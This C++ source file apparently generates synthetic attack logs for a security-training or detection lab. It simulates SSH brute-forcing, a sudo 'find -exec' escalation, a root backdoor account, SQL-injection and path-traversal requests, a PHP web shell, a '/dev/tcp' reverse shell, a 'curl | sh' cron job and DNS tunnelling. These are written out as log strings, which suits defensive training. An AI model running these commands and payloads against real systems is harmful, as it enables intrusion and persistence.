#include <fmt/format.h>

#include <utility>

#include "rooms/know/sample/attacks.h"
#include "rooms/know/sample/linux_lines.h"
#include "rooms/know/sample/network_lines.h"

namespace redoubt::rooms::sample {
namespace {

constexpr std::string_view controller_address = "203.0.113.66";

void add_crontab(Week& week, Time at) {
    Line created = audit_record("web01", at, "PATH");
    created.text("name", "/etc/cron.d/logrotate2").text("nametype", "CREATE").text("mode", "0100644").number("ouid", 0);
    add_audit(week, "web01", at, std::move(created));
    for (int i = 0; i < 6; ++i)
        add_message(week, "web01", at + hours(1 + i) + minutes(3), "cron", "CRON", fmt::format("(root) CMD (curl -fsS http://{}/c | sh)", controller_address));
}

void add_hidden_program(Week& week, Time at) {
    Line started = audit_record("web01", at, "SYSCALL");
    started.text("syscall", "execve").text("success", "yes").number("uid", 33).text("comm", "kworkerd").text("exe", "/dev/shm/kworkerd");
    add_audit(week, "web01", at, std::move(started));
    Line key = audit_record("web01", at + seconds(40), "SYSCALL");
    key.text("syscall", "openat").text("success", "yes").number("uid", 33).number("auid", 4'294'967'295).text("comm", "sh").text("exe", "/usr/bin/dash");
    key.text("key", "ssh_keys");
    add_audit(week, "web01", at + seconds(40), std::move(key));
}

}  // namespace

void add_ssh_guessing(Week& week, Time at) {
    constexpr std::string_view from = "203.0.113.77";
    for (int i = 0; i < 9; ++i) {
        const Time round = at + seconds(45 * i);
        for (int k = 0; k < 5; ++k)
            add_message(week, "bastion01", round + seconds(3 * k), "sshd", "sshd",
                        fmt::format("Failed password for deploy from {} port {} ssh2", from, 50'100 + i));
        add_message(week, "bastion01", round + seconds(18), "sshd", "sshd",
                    fmt::format("error: maximum authentication attempts exceeded for deploy from {} port {} ssh2 [preauth]", from, 50'100 + i));
    }
    add_message(week, "bastion01", at + minutes(8), "sshd", "sshd", fmt::format("Accepted password for deploy from {} port 50188 ssh2", from));
    add_message(week, "bastion01", at + minutes(10), "sudo", "sudo",
                "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/find /tmp -exec /bin/sh ;");
    add_message(week, "bastion01", at + minutes(12), "auth", "useradd", "new user: name=sysd, UID=0, GID=0, home=/home/sysd, shell=/bin/bash, from=/dev/pts/1");
    Line off = audit_record("bastion01", at + minutes(13), "EXECVE");
    off.number("argc", 3).text("a0", "auditctl").text("a1", "-e").text("a2", "0");
    add_audit(week, "bastion01", at + minutes(13), std::move(off));
}

void add_shop_break_in(Week& week, Time at) {
    constexpr std::string_view from = "203.0.113.88";
    for (int i = 0; i < 5; ++i)
        add_web_request(week, "web01", at + seconds(4 * i),
                        {.client = from,
                         .path = "/search",
                         .query = fmt::format("q={}%27+UNION+SELECT+login,hash+FROM+users--", i),
                         .status = i < 2 ? 500 : 200,
                         .agent = "sqlmap/1.9#stable (https://sqlmap.org)"});
    add_web_request(week, "web01", at + minutes(2), {.client = from, .path = "/download", .query = "file=..%2f..%2f..%2fetc%2fpasswd"});
    add_web_request(week, "web01", at + minutes(6), {.client = from, .method = "POST", .path = "/media/uploads/deck-15.php"});
    add_linux_process(week, "web01", at + minutes(6) + seconds(1), {"/usr/bin/dash", "sh -c whoami; uname -a", "www-data", "/usr/sbin/php-fpm8.2"});
    add_linux_process(week, "web01", at + minutes(8),
                      {"/usr/bin/bash", fmt::format("bash -c bash -i >& /dev/tcp/{}/4443 0>&1", controller_address), "www-data", "/usr/bin/dash"});
    for (int i = 0; i < 4; ++i) add_firewall(week, at + minutes(8 + 20 * i), "allow", {.from = "10.20.2.20", .to = controller_address, .to_port = 4443});
    add_hidden_program(week, at + minutes(15));
    add_crontab(week, at + minutes(22));
}

void add_dns_tunnel(Week& week, Time at) {
    constexpr std::string_view letters = "abcdefghijklmnopqrstuvwxyz234567";
    for (int i = 0; i < 30; ++i) {
        std::string label;
        for (int k = 0; k < 52; ++k) label += letters[week.random().below(letters.size())];
        add_zeek_dns(week, at + seconds(20 * i), "10.20.3.54", "TXT", fmt::format("{}.{}.t.metrics.example.test", label, i));
    }
}

}  // namespace redoubt::rooms::sample
